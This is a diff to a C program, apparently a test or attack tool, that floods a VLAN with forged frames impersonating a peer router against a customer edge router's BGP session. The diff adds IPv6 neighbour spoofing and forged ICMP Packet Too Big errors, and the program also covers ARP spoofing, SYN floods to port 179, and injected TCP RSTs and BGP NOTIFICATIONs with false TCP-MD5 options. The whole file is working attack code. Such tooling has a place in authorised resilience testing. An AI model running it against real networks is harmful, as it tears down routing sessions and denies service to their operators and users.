@@ -1,11 +1,13 @@
 /* SPDX-License-Identifier: ISC */
 /* One who means ill, in the MSEE's VLAN: flood PORT CE-MAC CE MSEE CE-PORT MSEE-PORT HOW-MUCH
  * KIND... sends a mixture of KINDs from port PORT, HOW-MUCH frames ("200") or as fast as it can for
- * so long
- * ("10s"), and prints how many. All in the MSEE's name, from hardware addresses of its own:
+ * so long ("10s"), and prints how many. All in the MSEE's name, from hardware addresses of its own,
+ * and over IPv6 where the addresses are such, with ND for ARP:
  *   arp            who-has of strangers, and a stranger in each
  *   spoof          "the MSEE's address is here"
- *   syn signed     SYNs to the CE's port 179; with a false TCP-MD5 option
+ *   toobig         ICMP errors about segments that the CE never sent
+ *   syn            SYNs to the CE's port 179
+ *   signed         the like, RSTs and NOTIFICATIONs with a false TCP-MD5 option
  *   rst data open notification
  *                  segments of the session, at places in the stream where it is not
  *   trunk          the same ARP requests as the MSEE's, under the tags 1 to 4094 */
@@ -21,15 +23,16 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { FRAME = 128, FRAMES = 8192, AT_ONCE = 64, KINDS = 9 };
+enum { FRAME = 128, FRAMES = 8192, AT_ONCE = 64, KINDS = 10 };
 enum { SYN = 2, RST = 4, ACK = 16 };
 
 static const char *const kinds[KINDS] = {"arp",  "spoof", "syn",          "signed", "rst",
-					 "data", "open",  "notification", "trunk"};
+					 "data", "open",  "notification", "toobig", "trunk"};
 
 static struct {
 	uint8_t ce_mac[6];
-	uint32_t ce, msee;
+	uint8_t ce[16], msee[16];
+	size_t len; /* of an address */
 	uint16_t ce_port, msee_port;
 } victim;
 
@@ -79,18 +82,6 @@ static void put_ethernet(struct frame *f, int tag, unsigned int type)
 	put16(f, type);
 }
 
-static void put_arp(struct frame *f, int tag, uint32_t from, uint32_t target)
-{
-	put_ethernet(f, tag, 0x806);
-	put32(f, 0x00010800);
-	put32(f, 0x06040001);
-	put(f, f->at + 6, 6);
-	put32(f, from);
-	put32(f, 0);
-	put16(f, 0);
-	put32(f, target);
-}
-
 static uint16_t sum(const uint8_t *at, size_t len, uint32_t start)
 {
 	for (size_t i = 0; i < len; i++)
@@ -106,21 +97,110 @@ static void store16(uint8_t *at, uint16_t v)
 	at[1] = (uint8_t)v;
 }
 
+/* RFC 791, RFC 8200. */
+static void put_ip(struct frame *f, unsigned int protocol, size_t len, const uint8_t *from,
+		   const uint8_t *to)
+{
+	size_t at = f->len;
+
+	if (victim.len == 16) {
+		put32(f, 0x6c000000);
+		put16(f, (unsigned int)len);
+		put8(f, protocol);
+		put8(f, 255);
+	} else {
+		put16(f, 0x45c0);
+		put16(f, (unsigned int)(20 + len));
+		put32(f, 0);
+		put32(f, 0xff000000 | protocol << 16);
+	}
+	put(f, from, victim.len);
+	put(f, to, victim.len);
+	if (victim.len == 4)
+		store16(f->at + at + 10, sum(f->at + at, 20, 0));
+}
+
+static unsigned int ip_type(void)
+{
+	return victim.len == 16 ? 0x86dd : 0x800;
+}
+
+/* With the pseudo-header: both addresses, protocol, length. */
+static void sum_store(struct frame *f, size_t at, size_t offset, unsigned int protocol)
+{
+	uint32_t start = protocol + (uint32_t)(f->len - at);
+	uint16_t addresses = (uint16_t)~sum(f->at + at - 2 * victim.len, 2 * victim.len, start);
+
+	store16(f->at + at + offset, sum(f->at + at, f->len - at, addresses));
+}
+
+/* RFC 826; RFC 4861 4.3, 4.4: FROM asks for TARGET, or tells of itself. */
+static void put_neighbour(struct frame *f, int tag, const uint8_t *from, const uint8_t *target)
+{
+	int tells = memcmp(from, target, victim.len) == 0;
+
+	put_ethernet(f, tag, victim.len == 16 ? 0x86dd : 0x806);
+	if (victim.len == 16) {
+		size_t icmp = f->len + 40;
+
+		put_ip(f, 58, 32, from, victim.ce);
+		put32(f, tells ? 0x88000000 : 0x87000000);
+		put32(f, tells ? 0x20000000 : 0);
+		put(f, target, 16);
+		put16(f, tells ? 0x0201 : 0x0101);
+		put(f, f->at + 6, 6);
+		sum_store(f, icmp, 2, 58);
+		return;
+	}
+	put32(f, 0x00010800);
+	put32(f, 0x06040001);
+	put(f, f->at + 6, 6);
+	put(f, from, 4);
+	put32(f, 0);
+	put16(f, 0);
+	put(f, target, 4);
+}
+
+static void put_stranger(struct frame *f)
+{
+	uint8_t from[16] = {192, 0, 2, (uint8_t)any()};
+
+	if (victim.len == 16) {
+		from[0] = 0x20;
+		from[15] = (uint8_t)any();
+	}
+	put_neighbour(f, 0, from, victim.ce);
+}
+
+/* RFC 792, RFC 4443 3.2: an MTU of 1280, of a segment from a place in the stream that is a guess.
+ */
+static void put_too_big(struct frame *f)
+{
+	size_t quote = victim.len == 16 ? 40 : 20, icmp = 14 + quote;
+
+	put_ethernet(f, 0, ip_type());
+	put_ip(f, victim.len == 16 ? 58 : 1, 8 + quote + 8, victim.msee, victim.ce);
+	put32(f, victim.len == 16 ? 0x02000000 : 0x03040000);
+	put32(f, 1280);
+	put_ip(f, 6, 1480, victim.ce, victim.msee);
+	put16(f, victim.ce_port);
+	put16(f, victim.msee_port);
+	put32(f, any());
+	if (victim.len == 16)
+		sum_store(f, icmp, 2, 58);
+	else
+		store16(f->at + icmp + 2, sum(f->at + icmp, f->len - icmp, 0));
+}
+
 static void put_tcp(struct frame *f, unsigned int flags, const uint8_t *data, size_t len, int sign)
 {
-	size_t ip = 14, tcp = 34;
 	unsigned int from = flags == SYN ? 1024 + any() % 60000 : victim.msee_port;
 	unsigned int to = flags == SYN ? 179 : victim.ce_port;
-	size_t header = sign ? 40 : 20;
+	size_t header = sign ? 40 : 20, tcp;
 
-	put_ethernet(f, 0, 0x800);
-	put16(f, 0x45c0);
-	put16(f, (unsigned int)(20 + header + len));
-	put32(f, 0);
-	put32(f, 0x01060000);
-	put32(f, victim.msee);
-	put32(f, victim.ce);
-	store16(f->at + ip + 10, sum(f->at + ip, 20, 0));
+	put_ethernet(f, 0, ip_type());
+	put_ip(f, 6, header + len, victim.msee, victim.ce);
+	tcp = f->len;
 	put16(f, from);
 	put16(f, to);
 	put32(f, any());
@@ -135,13 +215,10 @@ static void put_tcp(struct frame *f, unsigned int flags, const uint8_t *data, si
 		put16(f, 0);
 	}
 	put(f, data, len);
-	store16(f->at + tcp + 16,
-		sum(f->at + tcp, header + len,
-		    (victim.msee >> 16) + (victim.msee & 0xffff) + (victim.ce >> 16) +
-			    (victim.ce & 0xffff) + 6 + (uint32_t)(header + len)));
+	sum_store(f, tcp, 16, 6);
 }
 
-static void put_bgp(struct frame *f, uint8_t type, const void *body, size_t len)
+static void put_bgp(struct frame *f, uint8_t type, const void *body, size_t len, int sign)
 {
 	uint8_t m[64];
 
@@ -149,7 +226,7 @@ static void put_bgp(struct frame *f, uint8_t type, const void *body, size_t len)
 	store16(m + 16, (uint16_t)(19 + len));
 	m[18] = type;
 	memcpy(m + 19, body, len);
-	put_tcp(f, ACK, m, 19 + len, 0);
+	put_tcp(f, ACK, m, 19 + len, sign);
 }
 
 static void frame_make(struct frame *f, int kind, int n)
@@ -159,16 +236,19 @@ static void frame_make(struct frame *f, int kind, int n)
 	f->len = 0;
 	switch (kind) {
 	case 0:
-		put_arp(f, 0, 0xc0000200 | (any() & 255), victim.ce);
+		put_stranger(f);
 		return;
 	case 1:
-		put_arp(f, 0, victim.msee, victim.msee);
+		put_neighbour(f, 0, victim.msee, victim.msee);
 		return;
 	case 2:
 		put_tcp(f, SYN, NULL, 0, 0);
 		return;
 	case 3:
-		put_tcp(f, SYN, NULL, 0, 1);
+		if (n % 3 == 2)
+			put_bgp(f, 3, shutdown, sizeof(shutdown), 1);
+		else
+			put_tcp(f, n % 3 == 0 ? SYN : RST, NULL, 0, 1);
 		return;
 	case 4:
 		put_tcp(f, RST, NULL, 0, 0);
@@ -177,13 +257,16 @@ static void frame_make(struct frame *f, int kind, int n)
 		put_tcp(f, ACK, (const uint8_t *)"not BGP at all", 14, 0);
 		return;
 	case 6:
-		put_bgp(f, 1, open, sizeof(open));
+		put_bgp(f, 1, open, sizeof(open), 0);
 		return;
 	case 7:
-		put_bgp(f, 3, shutdown, sizeof(shutdown));
+		put_bgp(f, 3, shutdown, sizeof(shutdown), 0);
+		return;
+	case 8:
+		put_too_big(f);
 		return;
 	default:
-		put_arp(f, 1 + n % 4094, victim.msee, victim.ce);
+		put_neighbour(f, 1 + n % 4094, victim.msee, victim.ce);
 		return;
 	}
 }
@@ -238,8 +321,11 @@ int main(int argc, char **argv)
 		      stderr);
 		return 2;
 	}
-	victim.ce = ntohl(inet_addr(argv[3]));
-	victim.msee = ntohl(inet_addr(argv[4]));
+	victim.len = strchr(argv[3], ':') ? 16 : 4;
+	for (int i = 0; i < 2; i++)
+		if (inet_pton(victim.len == 16 ? AF_INET6 : AF_INET, argv[3 + i],
+			      i == 0 ? victim.ce : victim.msee) != 1)
+			return 2;
 	victim.ce_port = (uint16_t)atoi(argv[5]);
 	victim.msee_port = (uint16_t)atoi(argv[6]);
 	for (int i = 0; i < FRAMES; i++)
